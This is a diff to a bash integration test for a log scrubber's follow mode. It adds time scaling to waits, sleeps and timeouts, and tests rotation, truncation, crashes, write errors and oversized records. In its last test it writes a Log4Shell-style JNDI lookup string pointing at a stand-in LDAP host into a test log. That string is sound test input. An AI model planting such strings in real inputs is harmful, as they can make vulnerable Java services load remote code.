@@ -6,10 +6,13 @@
 #
 # Every written line carries a unique id (PREFIX + 8 digits); the checks compare
 # the ids in the clean output plus the quarantine file with the ids written.
+# Waits, deadlines and the writer's pauses scale with TEST_TIME_SCALE
+# (tests/timescale.sh), so the same timeline holds under valgrind.
 # SPDX-License-Identifier: Apache-2.0
 set -u
 bin=$(cd "$(dirname "${1:-./logscrub}")" && pwd)/$(basename "${1:-./logscrub}")
 wr=$(cd "$(dirname "${2:-build/follow/fwriter}")" && pwd)/$(basename "${2:-build/follow/fwriter}")
+. "$(dirname "$0")/../timescale.sh"
 tmp=$(mktemp -d)
 pids=()
 cleanup() {
@@ -27,9 +30,9 @@ check() {
 }
 note() { echo "follow: $*"; }
 
-# wait_until SECONDS CONDITION: poll the condition every 50 ms.
+# wait_until SECONDS CONDITION: poll the condition every 50 ms for SECONDS (scaled).
 wait_until() {
-    local end=$((SECONDS + $1))
+    local end=$((SECONDS + $(tsi "$1")))
     while ! eval "$2" 2>/dev/null; do
         [ $SECONDS -ge $end ] && return 1
         sleep 0.05
@@ -95,7 +98,7 @@ check "t1: existing lines read from the start with --state" 'wait_until 5 "[ \$(
 printf 'X00000003 third\n' >> "$d/a.log"
 check "t1: appended line picked up" 'wait_until 5 "grep -q X00000003 $d/out"'
 printf 'X00000004 part' >> "$d/a.log"
-sleep 0.4
+tsleep 0.4
 check "t1: a partial line waits for its newline" '! grep -q X00000004 "$d/out"'
 printf 'ial\n' >> "$d/a.log"
 check "t1: completed line written whole" 'wait_until 5 "grep -qx \"X00000004 partial\" $d/out"'
@@ -134,7 +137,7 @@ mkdir -p "$d"
 printf 'W00000001 one\nW00000002 half' > "$d/w.log"
 start "$d/err" --state "$d/state" -o "$d/out" "$d/w.log"
 wait_until 5 "grep -q W00000001 $d/out"
-sleep 0.2
+tsleep 0.2
 stop $lpid
 check "t1c: exit 0 (rc $lrc)" '[ $lrc = 0 ]'
 check "t1c: partial line not written at stop" '! grep -q W00000002 "$d/out"'
@@ -150,18 +153,18 @@ d=$tmp/t2
 mkdir -p "$d"
 start "$d/err" --state "$d/state" -o "$d/out" --quarantine "$d/q" --stats "$d/app.log"
 wait_until 30 "[ -f $d/state ]"     # started (slow under sanitizers)
-"$wr" "$d/app.log" A 1 4000 200 25 &
+"$wr" "$d/app.log" A 1 4000 "$(tsi 200)" 25 &
 wpid=$!
 pids+=("$wpid")
 wait_until 10 "[ -s $d/out ]"        # following app.log before the first rotation
 for n in 1 2 3 4; do
-    sleep 0.3
+    tsleep 0.3
     mv "$d/app.log" "$d/app.log.$n"
 done
 wait $wpid
 expect A 1 4000 > "$d/expected"
 wait_until 15 "[ \$(ids $d/out $d/q | wc -l) -ge 4000 ]"
-sleep 0.3
+tsleep 0.3
 stop $lpid
 check "t2: exit 0 (rc $lrc)" '[ $lrc = 0 ]'
 ids "$d/out" "$d/q" > "$d/got"
@@ -175,11 +178,11 @@ d=$tmp/t2b
 mkdir -p "$d"
 start "$d/err" --state "$d/state" -o "$d/out" --quarantine "$d/q" "$d/app.log"
 wait_until 30 "[ -f $d/state ]"
-"$wr" "$d/app.log" L 1 1500 1000 900 &
+"$wr" "$d/app.log" L 1 1500 "$(tsi 1000)" 900 &
 wpid=$!
 pids+=("$wpid")
 wait_until 10 "[ -s $d/out ]"
-sleep 0.2
+tsleep 0.2
 mv "$d/app.log" "$d/app.log.1"
 wait $wpid
 expect L 1 1500 > "$d/expected"
@@ -191,12 +194,15 @@ exactly_once "t2b writer reopening late" "$d/got" "$d/expected"
 # A writer that appends to the renamed file after a pause (it has not reopened yet).
 d=$tmp/t2c
 mkdir -p "$d"
-start "$d/err" --state "$d/state" -o "$d/out" "$d/app.log"
+# The pause is measured against the fixed drain period (2 s with --poll 50), so it
+# does not scale; it starts once logscrub has noticed the rename (-v says so).
+start "$d/err" -v --state "$d/state" -o "$d/out" "$d/app.log"
 wait_until 30 "[ -f $d/state ]"
 exec 5>> "$d/app.log"
 echo "P00000001 before the rename" >&5
 wait_until 5 "grep -q P00000001 $d/out"
 mv "$d/app.log" "$d/app.log.1"
+wait_until 5 "grep -q \"app.log: rotated away\" $d/err"
 sleep 0.6
 echo "P00000002 into the renamed file" >&5
 exec 5>&-
@@ -213,12 +219,12 @@ d=$tmp/t3
 mkdir -p "$d"
 start "$d/err" --state "$d/state" -o "$d/out" --quarantine "$d/q" "$d/app.log"
 wait_until 30 "[ -f $d/state ]"
-"$wr" "$d/app.log" C 1 4000 200 1000000 &
+"$wr" "$d/app.log" C 1 4000 "$(tsi 200)" 1000000 &
 wpid=$!
 pids+=("$wpid")
 wait_until 10 "[ -s $d/out ]"
 for n in 1 2 3 4; do
-    sleep 0.3
+    tsleep 0.3
     cp "$d/app.log" "$d/copy.$n"
     truncate -s 0 "$d/app.log"
 done
@@ -226,7 +232,7 @@ wait $wpid
 expect C 1 4000 > "$d/expected"
 ids "$d/app.log" > "$d/final"
 wait_until 10 "[ \$(LC_ALL=C comm -23 $d/final <(ids $d/out $d/q | uniq) | wc -l) = 0 ]"
-sleep 0.3
+tsleep 0.3
 stop $lpid
 check "t3: exit 0 (rc $lrc)" '[ $lrc = 0 ]'
 ids "$d/out" "$d/q" > "$d/got"
@@ -249,19 +255,19 @@ mkdir -p "$d"
 fargs=(--fsync --state "$d/state" -o "$d/out" --quarantine "$d/q" --audit "$d/audit" "$d/*.log*")
 start "$d/err" "${fargs[@]}"
 wait_until 30 "[ -f $d/state ]"
-"$wr" "$d/a.log" A 1 6000 400 25 &
+"$wr" "$d/a.log" A 1 6000 "$(tsi 400)" 25 &
 wa=$!
-"$wr" "$d/b.log" B 1 6000 400 25 &
+"$wr" "$d/b.log" B 1 6000 "$(tsi 400)" 25 &
 wb=$!
 pids+=("$wa" "$wb")
-( sleep 0.9; mv "$d/a.log" "$d/a.log.1"; sleep 0.9; mv "$d/a.log.1" "$d/a.log.2"; mv "$d/a.log" "$d/a.log.1" ) &
+( tsleep 0.9; mv "$d/a.log" "$d/a.log.1"; tsleep 0.9; mv "$d/a.log.1" "$d/a.log.2"; mv "$d/a.log" "$d/a.log.1" ) &
 wrot=$!
 pids+=("$wrot")
 for k in 1 2 3 4 5; do
-    sleep "0.$((RANDOM % 6 + 2))"
+    tsleep "0.$((RANDOM % 6 + 2))"
     kill -9 $lpid 2>/dev/null
     wait $lpid 2>/dev/null
-    sleep "0.0$((RANDOM % 10))"
+    tsleep "0.0$((RANDOM % 10))"
     start "$d/err" "${fargs[@]}"
 done
 wait $wa $wb $wrot
@@ -269,7 +275,7 @@ expect A 1 6000 > "$d/expected"
 expect B 1 6000 >> "$d/expected"
 LC_ALL=C sort -o "$d/expected" "$d/expected"
 wait_until 20 "[ \$(ids $d/out $d/q | uniq | wc -l) -ge 12000 ]"
-sleep 0.3
+tsleep 0.3
 stop $lpid
 check "t4: last run exits 0 (rc $lrc)" '[ $lrc = 0 ]'
 ids "$d/out" "$d/q" > "$d/got"
@@ -326,7 +332,7 @@ rules_b() { printf 'rules:\n  - id: beta\n    regex: "SECRET_B_[0-9]+"\n    keyw
 burst() { awk -v p="$1" 'BEGIN { for (i = 1; i <= 2000; i++) printf "%s line %d SECRET_A_%d SECRET_B_%d\n", p, i, i, i }'; }
 rules_a > "$d/rules.yaml"
 : > "$d/app.log"
-"$wr" "$d/bg.log" G 1 3000 500 25 &   # load on a second file during the reloads
+"$wr" "$d/bg.log" G 1 3000 "$(tsi 500)" 25 &   # load on a second file during the reloads
 wg=$!
 pids+=("$wg")
 start "$d/err" -v -c "$d/rules.yaml" --stats --state "$d/state" -o "$d/out" "$d/app.log" "$d/bg.log"
@@ -385,8 +391,8 @@ chmod 666 "$d/state"
 rc=$?
 check "t6: world-writable state refused (rc $rc)" '[ $rc = 3 ] && grep -q "world-writable" "$d/err4"'
 chmod 600 "$d/state"
-start "$d/err5" --state "$d/state" "$d/m.log"
-sleep 0.3
+start "$d/err5" -v --state "$d/state" "$d/m.log"
+wait_until 5 "grep -q following $d/err5"    # holds the state file's lock
 "$bin" --follow --poll $POLL --state "$d/state" "$d/m.log" > /dev/null 2> "$d/err6"
 rc=$?
 stop $lpid
@@ -396,19 +402,19 @@ check "t6: a second process on the same state refused (rc $rc)" '[ $rc = 3 ] && 
 d=$tmp/t7
 mkdir -p "$d"
 expect E 1 2000 | sed 's/$/ login user=alice password=hunter2secret ok/' > "$d/e.log"
-timeout 10 "$bin" --follow --poll $POLL --state "$d/state" -o /dev/full "$d/e.log" 2> "$d/err"
+timeout "$(tsi 10)" "$bin" --follow --poll $POLL --state "$d/state" -o /dev/full "$d/e.log" 2> "$d/err"
 rc=$?
 check "t7: ENOSPC on -o exits 3 (rc $rc)" '[ $rc = 3 ] && grep -q "No space left" "$d/err"'
 check "t7: checkpoint not advanced after ENOSPC" 'grep -q "^file [0-9]* [0-9]* 0 " "$d/state"'
 check "t7: no record content in messages" '! grep -q -e hunter2 -e E0000 "$d/err"'
-( timeout 10 "$bin" --follow --poll $POLL --state "$d/state2" "$d/e.log" 2> "$d/err2" | head -n 1 > /dev/null
+( timeout "$(tsi 10)" "$bin" --follow --poll $POLL --state "$d/state2" "$d/e.log" 2> "$d/err2" | head -n 1 > /dev/null
   echo "${PIPESTATUS[0]}" > "$d/rc2" ) &
 pids+=($!)
 size=$(stat -c %s "$d/e.log")
 for i in $(seq 1 50); do
     [ -s "$d/rc2" ] && break
     expect F 1 2000 >> "$d/e.log"
-    sleep 0.1
+    tsleep 0.1
 done
 wait_until 10 "[ -s $d/rc2 ]"
 check "t7: EPIPE on stdout exits 3 (rc $(cat "$d/rc2" 2>/dev/null))" '[ "$(cat "$d/rc2")" = 3 ]'
@@ -425,6 +431,8 @@ mkdir -p "$d"
 start "$d/err" --max-record 100 --state "$d/state" -o "$d/out" --quarantine "$d/q" \
     "$d/big.log" "$d/small.log"
 wait_until 30 "[ -f $d/state ]"
+# Both pauses together stay well inside the fixed 1 s that logscrub waits for the
+# newline of an oversized record (CLI_FOLLOW_OVERSIZE_WAIT_MS), so they do not scale.
 printf 'H00000001 %0150d' 0 >> "$d/big.log"
 sleep 0.2
 printf 'S00000001 small ${jndi:ldap://x.test/a}\nS00000002 small\n' >> "$d/small.log"
